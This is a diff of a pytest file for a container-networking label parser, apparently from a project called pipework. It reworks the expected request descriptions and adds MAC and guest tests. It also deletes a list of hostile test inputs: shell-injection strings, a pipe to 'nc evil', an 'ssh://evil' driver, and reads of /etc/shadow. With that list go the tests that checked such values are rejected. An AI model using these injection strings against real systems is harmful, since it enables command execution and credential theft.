@@ -6,11 +6,15 @@ from typing import TYPE_CHECKING
 
 import pytest
 
+from pipework_core.model.attachment import describe_request
+from pipework_core.model.names import stable_mac
 from pipework_core.watch.container import Container, make_container
 from pipework_core.watch.requests import asks, collect_requests, list_unserved
 
 if TYPE_CHECKING:
     from collections.abc import Mapping
+
+    from pipework_core.model.attachment import Attachment
 
 ID = "4f0c" * 16
 
@@ -31,7 +35,13 @@ def make(labels: Mapping[str, str] = {}, environment: Mapping[str, str] = {}, na
 def lines(container: Container, *, variables: bool = True) -> list[str]:
     found, mistakes = collect_requests(container, variables=variables)
     assert not mistakes, mistakes
-    return [" ".join(request.words) for request in found]
+    return [describe(request.attachment) for request in found]
+
+
+def describe(asked: Attachment) -> str:
+    """Return what was asked for, for the container itself: another guest stands in front."""
+    guest = "" if asked.guest == "docker:shop_web_12" else f"{asked.guest}: "
+    return f"{guest}{describe_request(asked)}"
 
 
 def test_a_label_is_a_line_without_guest_and_interface() -> None:
@@ -44,10 +54,33 @@ def test_a_label_is_a_line_without_guest_and_interface() -> None:
 
 def test_labels_have_the_options_of_the_command_line() -> None:
     labels = {"pipework.eth2": "--mtu 1400 ovs:sw0 udhcpc U:web@10", "pipework.eth1": "-o mode=private eth0 0/0"}
-    assert lines(make(labels)) == [
-        "-i eth1 -o mode=private eth0 docker:shop_web_12 0/0",
-        "-i eth2 --mtu 1400 ovs:sw0 docker:shop_web_12 udhcpc U:web@10",
-    ]
+    (first, second), _ = collect_requests(make(labels))
+    assert describe(first.attachment) == "eth0 -i eth1 0/0"
+    assert first.attachment.options == (("mode", "private"),)
+    assert describe(second.attachment) == f"ovs:sw0 -i eth2 udhcpc {stable_mac('web')} @10"
+    assert (second.attachment.mtu, second.has_own_mac) == (1400, True)
+
+
+@pytest.mark.parametrize(
+    ("value", "expected"),
+    [
+        ("br1 0/0", True),
+        ("br1 0/0 U:web --mtu 1400", True),
+        ("br1 0/0 U:web@10 --no-dad", True),
+        ("br1 0/0 @10", True),
+        ("br1 0/0 0a:00:01:01:01:01 --mtu 1400", False),
+        ("br1 0/0 0a:00:01:01:01:01@10", False),
+    ],
+)
+def test_a_mac_is_its_own_wherever_the_options_stand(value: str, *, expected: bool) -> None:
+    ((request,), _) = collect_requests(make({"pipework.eth1": value}))
+    assert request.has_own_mac is expected
+
+
+@pytest.mark.parametrize("value", ["-a 4 4 10.0.0.1/24", "--mtu 1400 1400 10.0.0.1/24"])
+def test_the_guest_is_the_container_whatever_the_host_s_interface_is_called(value: str) -> None:
+    ((request,), _) = collect_requests(make({"pipework.eth1": value}))
+    assert (request.attachment.guest, request.attachment.host) == ("docker:shop_web_12", value.split()[1])
 
 
 @pytest.mark.parametrize("word", ["false", "no", "0", "off", "False"])
@@ -58,7 +91,7 @@ def test_the_author_can_opt_out(word: str) -> None:
 def test_macros_are_filled_in_within_words() -> None:
     labels = {"pipework.eth1": "br1 10.0.0.@INSTANCE@/24 U:@CONTAINER_NAME@-@COMPOSE_PROJECT_NAME@-@HOSTNAME@"}
     (line,) = lines(make(labels))
-    assert line == "-i eth1 br1 docker:shop_web_12 10.0.0.12/24 U:shop_web_12-shop-h1"
+    assert line == f"br1 -i eth1 10.0.0.12/24 {stable_mac('shop_web_12-shop-h1')}"
 
 
 def test_a_macro_that_is_empty_is_a_mistake() -> None:
@@ -70,14 +103,15 @@ def test_a_macro_that_is_empty_is_a_mistake() -> None:
     ("value", "line"),
     [
         ("eth0 @CONTAINER_NAME@ 192.168.1.101/24@192.168.1.1 0a:00:01:01:01:01", None),
-        ("pipework eth0 -i eth2 @CONTAINER_ID@ dhcp", "eth0 -i eth2 docker:shop_web_12 dhcp"),
-        ("        eth0 -i eth0 @CONTAINER_NAME@ dhcp", "eth0 -i eth0 docker:shop_web_12 dhcp"),
-        ('"eth0 @CONTAINER_NAME@ dhcp"', "eth0 docker:shop_web_12 dhcp"),
-        (f"br1 {ID} 192.168.101.@INSTANCE@/24", "br1 docker:shop_web_12 192.168.101.12/24"),
+        ("pipework eth0 -i eth2 @CONTAINER_ID@ dhcp", "eth0 -i eth2 dhcp"),
+        ("        eth0 -i eth0 @CONTAINER_NAME@ dhcp", "eth0 -i eth0 dhcp"),
+        ('"eth0 @CONTAINER_NAME@ dhcp"', "eth0 dhcp"),
+        ("eth0 -i shop_web_12 @CONTAINER_NAME@ dhcp", "eth0 -i shop_web_12 dhcp"),
+        (f"br1 {ID} 192.168.101.@INSTANCE@/24", "br1 192.168.101.12/24"),
     ],
 )
 def test_variables_of_dreamcat4_are_read(value: str, line: str | None) -> None:
-    expected = line or "eth0 docker:shop_web_12 192.168.1.101/24@192.168.1.1 0a:00:01:01:01:01"
+    expected = line or "eth0 192.168.1.101/24 @192.168.1.1 0a:00:01:01:01:01"
     assert lines(make(environment={"my_pipework_cmd_a": value})) == [expected]
 
 
@@ -92,78 +126,7 @@ def test_variables_are_read_when_asked_for_and_in_the_order_of_their_names() -> 
 
 def test_another_guest_is_refused() -> None:
     _, (mistake,) = collect_requests(make(environment={"pipework_cmd": "br1 db 9.9.9.9/24"}), variables=True)
-    assert str(mistake.error) == "db is another guest."
-
-
-HOSTILE = [
-    'br1 x"; id >/run/pwned; echo "',
-    "br1; id >/run/pwned 10.0.0.1/24",
-    "br1 $(id -u >/run/pwned2) 10.0.0.1/24",
-    "br1 `id` 10.0.0.1/24",
-    "br1 /sys/class/net/* 10.0.0.1/24",
-    "br1 10.0.0.1/24 | nc evil 1",
-    "br1\n10.0.0.1/24\nbr2",
-    "../../etc 10.0.0.1/24",
-    "br1 ../../x/24",
-    "'",
-    '"',
-    "\\",
-    "",
-    " ",
-    "br1",
-    "--driver ssh://evil br1 10.0.0.1/24",
-    "--record /etc/passwd br1 10.0.0.1/24",
-    "--replay /etc/shadow br1 10.0.0.1/24",
-    "--dry-run br1 10.0.0.1/24",
-    "-f /etc/shadow br1 10.0.0.1/24",
-    "detach br1",
-    "route br1 add default via 10.0.0.1",
-    "up",
-    "watch --once",
-    "--help",
-    "-- -x 10.0.0.1/24",
-    "-i eth9 br1 10.0.0.1/24",
-    "br1 10.0.0.1/24 0a:00:01:01:01:01@9999999",
-    "br1 10.0.0.1/24 not-a-mac",
-    "br1 300.0.0.1/24",
-    "br1 10.0.0.1",
-    "br1 10.0.0.1/99",
-    "br1 10.0.0.1/24,10.0.0.1/24",
-    "br1 dhcp\x00",
-    "b" * 5000,
-    "br1 " + "10.0.0.1/24," * 1000,
-    "-o ../../x br1 10.0.0.1/24",
-    "--mtu -1 br1 10.0.0.1/24",
-    "--mtu 99999999999999999999 br1 10.0.0.1/24",
-    "br1 10.0.0.1/24@::1",
-    "@CONTAINER_NAME@" * 12 + " 10.0.0.1/24",
-    "%s%s%n br1 10.0.0.1/24",
-    "br%d 10.0.0.1/24",
-    "\x1b[2J 10.0.0.1/24",
-    "br1 10.0.0.1/24 U:",
-    "br1 10.0.0.1/24 @",
-    "no such words at all",
-    "attach",
-    "attach br1",
-    "host br1 10.0.0.1/24",
-]
-
-
-@pytest.mark.parametrize("value", HOSTILE)
-def test_a_value_that_makes_no_sense_is_one_sentence(value: str) -> None:
-    found, (mistake,) = collect_requests(make({"pipework.eth1": value}))
-    assert found == []
-    assert str(mistake.error).strip()
-    assert "\n" not in str(mistake.error)
-    assert mistake.error.hint
-
-
-@pytest.mark.parametrize(
-    "key", ["pipework.", "pipework.a/b", "pipework.eth1.2.3.4.5.6.7.8", "pipework.-x", "pipework. "]
-)
-def test_a_label_whose_interface_cannot_be_is_a_mistake(key: str) -> None:
-    found, (mistake,) = collect_requests(make({key: "br1 10.0.0.1/24"}))
-    assert (found, bool(mistake.error.hint)) == ([], True)
+    assert str(mistake.error) == "'db' is another guest."
 
 
 def test_what_the_image_says_does_not_count() -> None:
@@ -198,5 +161,5 @@ def test_a_glance_at_labels_tells_who_asks(labels: object, *, expected: bool) ->
 
 def test_host_routes_are_told_of_and_false_is_false() -> None:
     routes = {"pipework_host_routes": "true", "pipework_host_route_a": "false", "x_pipework_host_route_b": "1"}
-    told = list_unserved(make(environment=routes))
-    assert [sentence.partition(":")[0] for sentence in told] == ["pipework_host_routes", "x_pipework_host_route_b"]
+    (told,) = list_unserved(make(environment=routes))
+    assert told.startswith("pipework_host_routes, x_pipework_host_route_b: the host takes part by `pipework host")
